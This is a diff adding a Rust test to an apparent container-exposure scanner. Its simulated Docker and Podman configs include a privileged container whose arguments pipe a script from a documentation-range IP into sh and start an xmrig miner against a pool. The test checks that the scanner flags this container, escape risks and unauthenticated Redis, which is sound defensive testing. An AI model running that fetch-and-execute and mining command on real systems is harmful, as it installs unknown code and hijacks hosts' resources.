@@ -1109,3 +1109,138 @@ fn etcd_stock_debian_quiet_then_plain_http() {
     assert_eq!(f[0].evidence[0].path, "/etc/etcd/etcd.conf.yml");
     assert_eq!(f[0].evidence[1].line, Some(6));
 }
+
+/// An OCI runtime configuration as Podman 4 writes it to `userdata/config.json` (the fields
+/// of the OCI runtime specification that matter; `caps` is the bounding set, `ns` the
+/// namespaces, `mounts` extra (source, destination) binds).
+fn oci_config(args: &[&str], caps: &[&str], ns: &[&str], mounts: &[(&str, &str)]) -> String {
+    let q = |v: &[&str]| {
+        v.iter()
+            .map(|s| serde_json::to_string(s).unwrap())
+            .collect::<Vec<_>>()
+            .join(",")
+    };
+    let mut m = vec![r#"{"destination":"/proc","type":"proc","source":"proc","options":["nosuid","noexec","nodev"]}"#.to_owned()];
+    for (src, dst) in mounts {
+        m.push(format!(
+            r#"{{"destination":"{dst}","type":"bind","source":"{src}","options":["rbind","rw"]}}"#
+        ));
+    }
+    let ns: Vec<String> = ns.iter().map(|n| format!(r#"{{"type":"{n}"}}"#)).collect();
+    format!(
+        r#"{{"ociVersion":"1.1.0","process":{{"user":{{"uid":0,"gid":0}},"args":[{}],"env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin","container=podman"],"cwd":"/","capabilities":{{"bounding":[{}],"effective":[{}]}}}},"root":{{"path":"/var/lib/containers/storage/overlay/4e1c/merged"}},"hostname":"c0ffee","mounts":[{}],"annotations":{{"io.container.manager":"libpod"}},"linux":{{"namespaces":[{}]}}}}"#,
+        q(args),
+        q(caps),
+        q(caps),
+        m.join(","),
+        ns.join(",")
+    )
+}
+
+const PODMAN_CAPS: &[&str] = &[
+    "CAP_CHOWN",
+    "CAP_DAC_OVERRIDE",
+    "CAP_FOWNER",
+    "CAP_FSETID",
+    "CAP_KILL",
+    "CAP_NET_BIND_SERVICE",
+    "CAP_SETFCAP",
+    "CAP_SETGID",
+    "CAP_SETPCAP",
+    "CAP_SETUID",
+    "CAP_SYS_CHROOT",
+];
+const ALL_NS: &[&str] = &["pid", "network", "ipc", "uts", "mount", "cgroup"];
+
+#[test]
+fn docker_data_root_and_podman_containers() {
+    let mut privileged: Vec<&str> = PODMAN_CAPS.to_vec();
+    privileged.extend(["CAP_SYS_ADMIN", "CAP_SYS_MODULE", "CAP_SYS_PTRACE"]);
+    let miner = oci_config(
+        &["/bin/sh", "-c", "curl -fsSL http://203.0.113.7/d.sh | sh; /tmp/.x/xmrig -o pool.supportxmr.com:443 --donate-level 1"],
+        &privileged,
+        &["network", "ipc", "uts", "mount"],
+        &[("/", "/host")],
+    );
+    let web = oci_config(
+        &["nginx", "-g", "daemon off;"],
+        PODMAN_CAPS,
+        ALL_NS,
+        &[("/srv/www", "/usr/share/nginx/html")],
+    );
+    let t = host(&[
+        ("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n"),
+        // Docker moved to a data disk by daemon.json, and a second daemon by a drop-in flag.
+        ("/etc/docker/daemon.json", "{\n  \"data-root\": \"/data/docker\"\n}\n"),
+        (
+            "/etc/systemd/system/docker.service.d/data.conf",
+            "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// --data-root=/mnt/d2\n",
+        ),
+        ("/data/docker/containers/7d1c0e5b2a/config.v2.json", PRIV_MINER_CONFIG),
+        ("/data/docker/containers/7d1c0e5b2a/hostconfig.json", PRIV_MINER_HOST),
+        (
+            "/mnt/d2/containers/r1/config.v2.json",
+            r#"{"Name":"/cache","Config":{"Image":"redis:7","Cmd":["redis-server","--protected-mode","no"]}}"#,
+        ),
+        (
+            "/mnt/d2/containers/r1/hostconfig.json",
+            r#"{"PortBindings":{"6379/tcp":[{"HostIp":"0.0.0.0","HostPort":"6379"}]}}"#,
+        ),
+        // Podman, rootful: a privileged miner with the host's / and PID namespace; a web
+        // server; rootless in bob's home: a redis without protection.
+        (
+            "/var/lib/containers/storage/overlay-containers/containers.json",
+            r#"[{"id":"aa01","names":["kind_babbage"],"image":"9f0e","layer":"41c2"},{"id":"bb02","names":["web"],"image":"77aa","layer":"e0d1"}]"#,
+        ),
+        ("/var/lib/containers/storage/overlay-containers/aa01/userdata/config.json", &miner),
+        ("/var/lib/containers/storage/overlay-containers/bb02/userdata/config.json", &web),
+        (
+            "/home/bob/.local/share/containers/storage/overlay-containers/cc03/userdata/config.json",
+            &oci_config(&["docker-entrypoint.sh", "redis-server", "--protected-mode", "no"], PODMAN_CAPS, ALL_NS, &[]),
+        ),
+    ]);
+    let out = exposure(&t);
+    assert!(out.errors.is_empty(), "{:#?}", out.errors);
+    let m = with_id(&out.findings, "exposure.docker-malicious-container");
+    assert_eq!(m.len(), 2, "{:#?}", out.findings);
+    assert!(m.iter().any(|f| f.subject == "sleepy_kilby"
+        && f.evidence[0].path == "/data/docker/containers/7d1c0e5b2a/config.v2.json"));
+    let pm = m.iter().find(|f| f.subject == "kind_babbage").unwrap();
+    assert_eq!(
+        pm.evidence[0].path,
+        "/var/lib/containers/storage/overlay-containers/aa01/userdata/config.json"
+    );
+    assert!(pm.evidence[0]
+        .excerpt
+        .as_deref()
+        .unwrap()
+        .starts_with("process.args: /bin/sh -c curl"));
+    assert!(pm.attack.iter().any(|a| a == "T1611"));
+    let e = with_id(&out.findings, "exposure.docker-container-escape");
+    assert_eq!(e.len(), 2, "{e:#?}");
+    let pe = e.iter().find(|f| f.subject == "kind_babbage").unwrap();
+    assert_eq!(pe.severity, Severity::High);
+    let ex: Vec<&str> = pe
+        .evidence
+        .iter()
+        .filter_map(|e| e.excerpt.as_deref())
+        .collect();
+    assert!(ex.iter().any(|x| x.contains("(--privileged)")), "{ex:?}");
+    assert!(
+        ex.iter()
+            .any(|x| x.contains("mounts: host / mounted at /host")),
+        "{ex:?}"
+    );
+    assert!(ex.iter().any(|x| x.contains("no pid namespace")), "{ex:?}");
+    // The two unprotected Redis: Docker's under the flag's data root, Podman's rootless one.
+    let r = with_id(&out.findings, "exposure.redis-no-auth");
+    assert_eq!(r.len(), 2, "{r:#?}");
+    assert!(r
+        .iter()
+        .any(|f| f.subject == "/mnt/d2/containers/r1/config.v2.json"));
+    assert!(r.iter().any(|f| {
+        f.subject
+        == "/home/bob/.local/share/containers/storage/overlay-containers/cc03/userdata/config.json"
+    }));
+    assert!(with_id(&out.findings, "exposure.docker-api").is_empty());
+}
